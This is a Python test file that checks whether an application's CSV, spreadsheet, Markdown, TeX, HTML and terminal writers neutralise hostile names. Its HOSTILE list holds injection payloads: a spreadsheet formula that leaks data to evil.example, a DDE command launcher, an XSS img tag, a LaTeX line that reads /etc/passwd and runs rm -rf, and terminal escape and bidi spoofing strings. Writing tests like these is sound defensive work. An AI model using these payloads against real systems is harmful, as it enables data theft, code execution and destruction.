"""Every name is data, escaped for where it goes: one list of hostile names (formulas, markup,
LaTeX commands, control and bidi characters, a stray byte from the file system, a 10,000
character name) put in a result of every kind (as input labels, host and CPU names, merge
labels, failure messages) and saved in every format the kind offers. Each output is checked
by the rule of its format: no formula in a workbook or a CSV, no markup or split row in
Markdown, no control character anywhere, a .tex that compiles, JSON that loads."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import sys
from pathlib import Path

import pytest
from hostile import small_job, small_run
from paper_files import compiles
from publish_factories import made_study
from trend_factories import sweep

from app.cli.terminal import Visible, clear_line, redraw, visible_streams
from app.core.document import terminal
from app.core.kinds import formats
from app.core.publish.merge import MergeSource, merge_results
from app.core.sweep.results import SweepFailure
from app.core.transfer.results import TransferFailure
from tests.core.history.history_factories import transfer_run, transfer_study

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=1+2.txt",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)*cmd",
    "\tstarts with a tab",
    "\rstarts with a return",
    "<img src=x onerror=alert(1)>",
    "a|b\nc\rd",
    "\\input{/etc/passwd}\\write18{rm -rf ~}",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred.txt",
    "\u202etxt.exe",
    "bs\x08del\x7fcsi\x9b",
    "data\udcff.bin",
    "x" * 10_000,
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Any control character but the line breaks and tabs a text file is made of; the bidi and
# invisible format controls.
CONTROL = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069]"
)


def _bench():
    jobs = [small_job(label=name, input_bytes=1000 + i) for i, name in enumerate(HOSTILE)]
    run = small_run(*jobs)
    return dataclasses.replace(run, environment={"cpu": HOSTILE[0], "hostname": HOSTILE[10]})


def _study():
    return made_study(files=tuple((name, 1000 + i) for i, name in enumerate(HOSTILE[:8])))


def _transfer():
    return transfer_run(
        input_label=HOSTILE[10],
        failures=(TransferFailure("chacha20-poly1305", HOSTILE[0] + HOSTILE[8]),),
    )


def _transfer_study():
    study = transfer_study()
    cells = tuple(dataclasses.replace(r, input_label=HOSTILE[7]) for r in study.results)
    return dataclasses.replace(study, results=cells)


def _sweep():
    result = sweep()
    return dataclasses.replace(result, failures=(SweepFailure(HOSTILE[1], HOSTILE[10]),))


def _merged():
    studies = [_study(), _study()]
    sources = [
        MergeSource(HOSTILE[0], HOSTILE[10], studies[0]),
        MergeSource(HOSTILE[11], HOSTILE[7], studies[1]),
    ]
    return merge_results(sources)


RESULTS = {
    "bench": _bench,
    "study": _study,
    "transfer": _transfer,
    "transfer study": _transfer_study,
    "sweep": _sweep,
    "merged": _merged,
}


def _no_control(text: str, where: str) -> None:
    found = CONTROL.search(text)
    assert found is None, f"{where}: control character {found.group()!r}"


def _check_csv(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    _no_control(text, path.name)
    for row in csv.reader(io.StringIO(text)):
        for value in row:
            if value.startswith(FORMULA_STARTS):
                float(value.replace(",", ""))  # only a number may start so ("-0.5")


def _check_xlsx(path: Path) -> None:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    try:
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path.name} {ws.title}!{cell.coordinate}"
                    if isinstance(cell.value, str):
                        _no_control(cell.value, f"{path.name} {ws.title}!{cell.coordinate}")
    finally:
        wb.close()


def _check_markdown(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    _no_control(text, path.name)
    assert "<img" not in text and "\r" not in text
    for block in re.split(r"\n\s*\n", text):
        rows = [line for line in block.splitlines() if line.startswith("|")]
        widths = {len(re.findall(r"(?<!\\)\|", line)) for line in rows}
        assert len(widths) <= 1, f"{path.name}: a row split or widened:\n{block[:400]}"


def _check_asciidoc(path: Path) -> None:
    """No control character; every row of a table has as many cells as its header (a ``|``
    in a name escaped)."""
    text = path.read_text(encoding="utf-8")
    _no_control(text, path.name)
    for block in text.split("|===\n")[1::2]:
        rows = block.splitlines()
        widths = {len(re.findall(r"(?<!\\)\|", row)) for row in rows}
        assert len(widths) == 1, f"{path.name}: a row split or widened:\n{block[:400]}"


def _check_tex(path: Path, tmp_path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    _no_control(text, path.name)
    assert "\\input{" not in text and "\\write18" not in text
    compiles(path, tmp_path)


def _check_markup(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    _no_control(text, path.name)
    assert "<img" not in text


@pytest.mark.parametrize("kind", RESULTS)
def test_every_writer_of_every_kind_escapes_hostile_names(kind: str, tmp_path: Path) -> None:
    result = RESULTS[kind]()
    suffixes = list(formats.kind_of(result).writers)
    for suffix in suffixes:
        path = tmp_path / f"out{suffix}"
        formats.save(result, path)
        if suffix == ".csv":
            _check_csv(path)
        elif suffix == ".xlsx":
            _check_xlsx(path)
        elif suffix == ".md":
            _check_markdown(path)
        elif suffix == ".tex":
            _check_tex(path, tmp_path)
        elif suffix in (".html", ".svg"):
            _check_markup(path)
        elif suffix == ".adoc":
            _check_asciidoc(path)
        elif suffix == ".json":
            json.loads(path.read_text(encoding="utf-8"))
    printed = terminal.render(formats.document_of(result), width=80)
    _no_control(printed, f"{kind} on the terminal")


def test_the_command_lines_streams_show_controls_and_keep_lines(
    capsys: pytest.CaptureFixture[str],
) -> None:
    with visible_streams():
        assert isinstance(sys.stdout, Visible) and isinstance(sys.stderr, Visible)
        print("\n".join(HOSTILE[8:13]))
        print(HOSTILE[6], file=sys.stderr)
        redraw(HOSTILE[10], 30)
        clear_line(30)
    out, err = capsys.readouterr()
    _no_control(out + err.replace("\r", ""), "the terminal")
    assert r"\x1b]0;owned\x07" in out and r"\u202etxt.exe" in out and "a|b\nc" in out
    assert err.startswith(r"\x0dstarts with a return" + "\n\r")  # the progress line's \r only
    assert not isinstance(sys.stdout, Visible)
